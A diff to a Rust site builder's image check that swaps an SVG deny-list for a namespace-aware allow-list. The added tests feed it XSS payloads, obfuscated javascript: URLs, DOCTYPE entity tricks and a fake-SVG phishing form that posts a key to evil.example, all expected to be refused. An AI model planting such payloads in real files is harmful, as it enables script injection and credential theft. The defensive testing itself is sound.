@@ -6,14 +6,16 @@
 //! an image (an `.html` page, a script) or an SVG that runs script would run as the site. Only
 //! PNG, JPEG, GIF, WebP, AVIF and SVG are published, recognised by their bytes and named with a
 //! matching extension (hosts choose the content type by the name); an SVG is parsed and refused
-//! when it could run script or load anything from outside; symbolic links are refused. Each
+//! unless it is drawing elements in the SVG namespace that can neither run script nor load
+//! anything from outside; symbolic links are refused. Each
 //! refusal is a build error naming the file (and for an SVG, the line).
 
 use std::fs;
 use std::path::{Path, PathBuf};
 
 use quick_xml::events::{BytesStart, Event};
-use quick_xml::Reader;
+use quick_xml::name::{Namespace, NamespaceResolver, ResolveResult};
+use quick_xml::NsReader;
 
 use crate::error::{line_of, BuildError, ContentError};
 
@@ -173,26 +175,76 @@ fn not_an_image() -> String {
         .into()
 }
 
-/// Elements that run script, embed other documents or handle events.
-const SVG_FORBIDDEN_ELEMENTS: [&str; 8] = [
-    "script",
-    "foreignobject",
-    "iframe",
-    "object",
-    "embed",
-    "handler",
-    "listener",
-    "audio",
+const SVG_NS: &[u8] = b"http://www.w3.org/2000/svg";
+const XLINK_NS: &[u8] = b"http://www.w3.org/1999/xlink";
+const XML_NS: &[u8] = b"http://www.w3.org/XML/1998/namespace";
+
+/// The SVG elements that are published: what charts and diagrams are drawn with. Anything else
+/// (`script`, `foreignObject`, `a`, `image`, `set`/`animate*`, `iframe`, `form`, `meta`…) is
+/// refused, and so is every element outside the SVG namespace.
+const SVG_ELEMENTS: &[&str] = &[
+    "svg",
+    "g",
+    "defs",
+    "title",
+    "desc",
+    "metadata",
+    "path",
+    "rect",
+    "circle",
+    "ellipse",
+    "line",
+    "polyline",
+    "polygon",
+    "text",
+    "tspan",
+    "textPath",
+    "linearGradient",
+    "radialGradient",
+    "stop",
+    "clipPath",
+    "mask",
+    "pattern",
+    "marker",
+    "symbol",
+    "use",
+    "style",
+    "filter",
+    "feBlend",
+    "feColorMatrix",
+    "feComponentTransfer",
+    "feComposite",
+    "feConvolveMatrix",
+    "feDiffuseLighting",
+    "feDisplacementMap",
+    "feDistantLight",
+    "feDropShadow",
+    "feFlood",
+    "feFuncA",
+    "feFuncB",
+    "feFuncG",
+    "feFuncR",
+    "feGaussianBlur",
+    "feMerge",
+    "feMergeNode",
+    "feMorphology",
+    "feOffset",
+    "fePointLight",
+    "feSpecularLighting",
+    "feSpotLight",
+    "feTile",
+    "feTurbulence",
 ];
 
-/// Accepts an SVG that can neither run script nor load anything: no script or foreign content,
-/// no event handler attributes, links only to `#fragments` of itself, no stylesheet imports,
-/// external `url(…)`s, processing instructions or entity declarations.
+/// Accepts an SVG that can neither run script nor load anything: a root `<svg>` in the SVG
+/// namespace, only [`SVG_ELEMENTS`], no event handler attributes, links only to `#fragments` of
+/// itself, no stylesheet imports, external `url(…)`s, processing instructions or DOCTYPE.
 fn check_svg(text: &str) -> Result<(), Refusal> {
-    let mut reader = Reader::from_str(text);
+    let mut reader = NsReader::from_str(text);
     let mut root_seen = false;
     let mut style_depth = 0usize;
     let mut depth = 0usize;
+    let mut doctype_line = None;
     loop {
         let at = reader.buffer_position() as usize;
         let line = || line_of(text, at);
@@ -209,17 +261,35 @@ fn check_svg(text: &str) -> Result<(), Refusal> {
         };
         match event {
             Event::Start(ref e) | Event::Empty(ref e) => {
-                let name = local_name(e.local_name().as_ref());
+                let (ns, local) = reader.resolver().resolve_element(e.name());
+                let name = String::from_utf8_lossy(local.as_ref()).into_owned();
+                let qname = String::from_utf8_lossy(e.name().as_ref()).into_owned();
+                let in_svg = matches!(ns, ResolveResult::Bound(Namespace(SVG_NS)));
                 if !root_seen && name != "svg" {
                     return Err((1, not_an_image()));
                 }
-                root_seen = true;
-                if SVG_FORBIDDEN_ELEMENTS.contains(&name.as_str()) {
-                    return refuse(format!(
-                        "SVG with a `<{name}>` element (it could run script or embed a page)"
+                if let Some(line) = doctype_line {
+                    return Err((
+                        line,
+                        "SVG with a DOCTYPE (it can load a DTD or declare entities; an SVG needs \
+                         none)"
+                            .into(),
                     ));
                 }
-                check_svg_attributes(e, &name).map_err(|why| (line(), why))?;
+                if !in_svg {
+                    return refuse(format!(
+                        "SVG with a `<{qname}>` element outside the SVG namespace (an SVG's \
+                         elements are in xmlns=\"http://www.w3.org/2000/svg\")"
+                    ));
+                }
+                root_seen = true;
+                if !SVG_ELEMENTS.contains(&name.as_str()) {
+                    return refuse(format!(
+                        "SVG with a `<{qname}>` element: only shapes, text, gradients, patterns, \
+                         markers, filters and styles are published"
+                    ));
+                }
+                check_svg_attributes(e, &qname, reader.resolver()).map_err(|why| (line(), why))?;
                 if matches!(event, Event::Start(_)) {
                     depth += 1;
                     if name == "style" || style_depth > 0 {
@@ -246,10 +316,9 @@ fn check_svg(text: &str) -> Result<(), Refusal> {
                         .into(),
                 )
             }
-            Event::DocType(t) if t.contains(&b'[') => {
-                return refuse(
-                    "SVG with declarations in its DOCTYPE (entities can hide markup)".into(),
-                )
+            // Refused once the root shows this is meant as an SVG (else it is not an image).
+            Event::DocType(_) => {
+                doctype_line.get_or_insert(line());
             }
             Event::Eof if !root_seen => return Err((1, not_an_image())),
             Event::Eof if depth > 0 => {
@@ -261,46 +330,62 @@ fn check_svg(text: &str) -> Result<(), Refusal> {
     }
 }
 
-/// An element or attribute name without its namespace prefix, lowercased.
-fn local_name(raw: &[u8]) -> String {
-    String::from_utf8_lossy(raw).to_ascii_lowercase()
-}
+/// Attributes that only mean something on HTML elements that submit or redirect.
+const HTML_ONLY_ATTRIBUTES: [&str; 3] = ["action", "formaction", "http-equiv"];
 
-fn check_svg_attributes(e: &BytesStart<'_>, element: &str) -> Result<(), String> {
+fn check_svg_attributes(
+    e: &BytesStart<'_>,
+    element: &str,
+    resolver: &NamespaceResolver,
+) -> Result<(), String> {
     for attr in e.attributes() {
         let attr = attr.map_err(|err| format!("SVG with a malformed attribute: {err}"))?;
-        let name = local_name(attr.key.local_name().as_ref());
+        if attr.key.as_namespace_binding().is_some() {
+            continue;
+        }
+        let qname = String::from_utf8_lossy(attr.key.as_ref()).into_owned();
+        let (ns, local) = resolver.resolve_attribute(attr.key);
+        let local = String::from_utf8_lossy(local.as_ref()).to_ascii_lowercase();
+        let ns = match ns {
+            ResolveResult::Unbound => None,
+            ResolveResult::Bound(Namespace(ns)) if [XLINK_NS, XML_NS].contains(&ns) => Some(ns),
+            _ => {
+                return Err(format!(
+                    "SVG with an attribute `{qname}` on `<{element}>` in a namespace other \
+                     than SVG's, XLink's or XML's"
+                ))
+            }
+        };
         let value = attr
             .normalized_value(quick_xml::XmlVersion::Implicit1_0)
-            .map_err(|err| format!("SVG attribute `{name}`: {err}"))?;
+            .map_err(|err| format!("SVG attribute `{qname}`: {err}"))?;
         // Browsers drop whitespace and control characters inside URLs (`java\tscript:`).
         let squeezed: String = value
             .chars()
             .filter(|c| !c.is_whitespace() && !c.is_control())
             .collect::<String>()
             .to_ascii_lowercase();
-        if name.starts_with("on") {
+        if local.starts_with("on") {
             return Err(format!(
-                "SVG with an event handler attribute `{name}` on `<{element}>`"
+                "SVG with an event handler attribute `{qname}` on `<{element}>`"
             ));
+        }
+        if HTML_ONLY_ATTRIBUTES.contains(&local.as_str()) {
+            return Err(format!("SVG with an attribute `{qname}` on `<{element}>`"));
         }
         if squeezed.contains("javascript:") {
             return Err(format!(
-                "SVG with a `javascript:` URL in `{name}` on `<{element}>`"
+                "SVG with a `javascript:` URL in `{qname}` on `<{element}>`"
             ));
         }
-        if (name == "href" || name == "src") && !squeezed.starts_with('#') {
+        let is_link = local == "href" && (ns.is_none() || ns == Some(XLINK_NS));
+        if (is_link || local == "src") && !squeezed.starts_with('#') {
             return Err(format!(
-                "SVG with an external reference `{name}=\"{value}\"` on `<{element}>` (only links \
-                 to `#ids` of the same file are published)"
+                "SVG with an external reference `{qname}=\"{value}\"` on `<{element}>` (only \
+                 links to `#ids` of the same file are published)"
             ));
         }
-        if name == "attributename" && matches!(squeezed.as_str(), "href" | "xlink:href") {
-            return Err(format!(
-                "SVG that animates a link (`<{element} attributeName=\"{value}\">`)"
-            ));
-        }
-        check_css(&value).map_err(|why| format!("{why} (in `{name}` on `<{element}>`)"))?;
+        check_css(&value).map_err(|why| format!("{why} (in `{qname}` on `<{element}>`)"))?;
     }
     Ok(())
 }
@@ -471,26 +556,36 @@ mod tests {
             format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\n{body}\n</svg>")
         };
         for (body, reason) in [
-            ("<script>alert(1)</script>", "`<script>`"),
-            ("<SCRIPT>alert(1)</SCRIPT>", "`<script>`"),
-            ("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>", "`<script>`"),
-            ("<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">x</div></foreignObject>", "`<foreignobject>`"),
+            ("<script>alert(1)</script>", "`<script>` element: only"),
+            ("<SCRIPT>alert(1)</SCRIPT>", "`<SCRIPT>` element: only"),
+            ("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>", "outside the SVG namespace"),
+            ("<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">x</div></foreignObject>", "`<foreignObject>` element"),
             ("<rect onclick=\"alert(1)\"/>", "event handler attribute `onclick`"),
-            ("<rect ONLOAD=\"alert(1)\"/>", "event handler attribute `onload`"),
-            ("<a href=\"javascript:alert(1)\"><text>x</text></a>", "`javascript:`"),
-            ("<a xlink:href=\" jav&#x09;ascript&#58;alert(1)\"><text>x</text></a>", "`javascript:`"),
-            ("<a href=\"https://evil.example/\"><text>x</text></a>", "external reference"),
-            ("<image href=\"https://evil.example/x.png\"/>", "external reference"),
+            ("<rect ONLOAD=\"alert(1)\"/>", "event handler attribute `ONLOAD`"),
+            ("<text><a href=\"#x\">x</a></text>", "`<a>` element"),
+            ("<image href=\"#x\"/>", "`<image>` element"),
+            ("<rect fill=\"javascript:alert(1)\"/>", "`javascript:`"),
+            ("<use xlink:href=\" jav&#x09;ascript&#58;alert(1)\"/>", "`javascript:`"),
+            ("<use href=\"https://evil.example/x.svg#a\"/>", "external reference"),
             ("<use xlink:href=\"other.svg#a\"/>", "external reference"),
-            ("<image href=\"data:image/svg+xml,&lt;svg/&gt;\"/>", "external reference"),
+            ("<use href=\"data:image/svg+xml,&lt;svg/&gt;\"/>", "external reference"),
+            // Any prefix bound to XLink is XLink; a prefix bound to something else is refused.
+            ("<use l:href=\"https://evil.example/\" xmlns:l=\"http://www.w3.org/1999/xlink\"/>", "external reference `l:href"),
+            ("<use h:href=\"#a\" xmlns:h=\"http://www.w3.org/1999/xhtml\"/>", "in a namespace other"),
+            ("<use x:href=\"#a\"/>", "in a namespace other"),
             ("<style>@import url(https://evil.example/x.css);</style>", "`@import`"),
             ("<style><![CDATA[rect { fill: url( 'https://evil.example/x' ) }]]></style>", "external `url(…)`"),
             ("<style>rect { fill: \\75rl(https://evil.example/x) }</style>", "CSS escape"),
             ("<style>&#64;import 'x.css';</style>", "character reference in a stylesheet"),
             ("<rect style=\"background: image-set('x.png' 1x)\"/>", "`image-set()`"),
             ("<rect fill=\"url(https://evil.example/p)\"/>", "external `url(…)`"),
-            ("<a><set attributeName=\"href\" to=\"#x\"/></a>", "animates a link"),
-            ("<iframe src=\"#x\"/>", "`<iframe>`"),
+            ("<g><x:set xmlns:x=\"http://www.w3.org/2000/svg\" attributeName=\"href\" to=\"#x\"/></g>", "`<x:set>` element"),
+            ("<animate attributeName=\"href\" to=\"#x\"/>", "`<animate>` element"),
+            ("<iframe src=\"#x\"/>", "`<iframe>` element"),
+            ("<form action=\"https://evil.example/\"/>", "`<form>` element"),
+            ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>", "`<meta>` element"),
+            ("<g http-equiv=\"refresh\"/>", "attribute `http-equiv`"),
+            ("<svg xmlns=\"http://www.w3.org/1999/xhtml\"/>", "outside the SVG namespace"),
         ] {
             let (line, why) = check("x.svg", svg(body).as_bytes()).unwrap_err();
             assert!(why.contains(reason), "{body}: {why}");
@@ -498,22 +593,41 @@ mod tests {
         }
         for (text, reason) in [
             ("<!DOCTYPE svg [<!ENTITY x \"&#60;script&#62;alert(1)&#60;/script&#62;\">]><svg>&x;</svg>", "DOCTYPE"),
+            ("<!DOCTYPE svg SYSTEM \"https://evil.example/x.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "DOCTYPE"),
+            ("<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "DOCTYPE"),
             ("<?xml-stylesheet href=\"https://evil.example/x.css\"?><svg/>", "processing instruction"),
-            ("<svg><g></svg>", "not well-formed"),
-            ("<svg><g>", "not well-formed"),
+            ("<svg xmlns=\"http://www.w3.org/2000/svg\"><g></svg>", "not well-formed"),
+            ("<svg xmlns=\"http://www.w3.org/2000/svg\"><g>", "not well-formed"),
+            ("<svg width=\"1\" height=\"1\"/>", "outside the SVG namespace"),
+            ("<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:rect/><rect/></s:svg>", "`<rect>` element outside"),
         ] {
             let (_, why) = check("x.svg", text.as_bytes()).unwrap_err();
             assert!(why.contains(reason), "{text}: {why}");
         }
-        // What charts use stays fine: fragments, local gradients, plain styles, a DOCTYPE.
+        // What charts use stays fine: fragments, local gradients, plain styles, filters, prefixes.
         let fine = svg(
-            "<defs><linearGradient id=\"g\"/></defs><style>rect { fill: url(#g) }</style>\
-             <rect fill=\"url(#g)\" style=\"stroke: url('#g'); opacity: .5\"/><use href=\"#g\"/>\
-             <a href=\"#g\"><text>x &amp; y</text></a><!-- a comment -->",
+            "<defs><linearGradient id=\"g\"><stop offset=\"0\"/></linearGradient>\
+             <filter id=\"f\"><feGaussianBlur stdDeviation=\"2\"/></filter></defs>\
+             <style>rect { fill: url(#g) }</style>\
+             <rect fill=\"url(#g)\" filter=\"url(#f)\" style=\"stroke: url('#g'); opacity: .5\"/>\
+             <use href=\"#g\"/><use xlink:href=\"#g\"/>\
+             <text xml:space=\"preserve\">x &amp; y<tspan>z</tspan></text><!-- a comment -->",
         );
         assert_eq!(check("x.svg", fine.as_bytes()), Ok(Kind::Svg));
-        let with_doctype = format!("\u{feff}<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n{}", svg(""));
-        assert_eq!(check("x.svg", with_doctype.as_bytes()), Ok(Kind::Svg));
+        let prefixed = "\u{feff}<?xml version=\"1.0\"?>\n<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:g><s:rect/></s:g></s:svg>";
+        assert_eq!(check("x.svg", prefixed.as_bytes()), Ok(Kind::Svg));
+    }
+
+    /// The security review's phishing page: an XHTML document whose root is called `svg`.
+    #[test]
+    fn an_xhtml_page_named_svg_is_refused() {
+        let page = "<svg xmlns=\"http://www.w3.org/1999/xhtml\" width=\"10\" height=\"10\"><head>\
+            <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/></head>\
+            <form action=\"https://evil.example/steal\" method=\"post\"><input name=\"key\"/>\
+            <button>Unlock</button></form></svg>";
+        let (line, why) = check("unlock.svg", page.as_bytes()).unwrap_err();
+        assert_eq!(line, 1);
+        assert!(why.contains("outside the SVG namespace"), "{why}");
     }
 
     #[test]
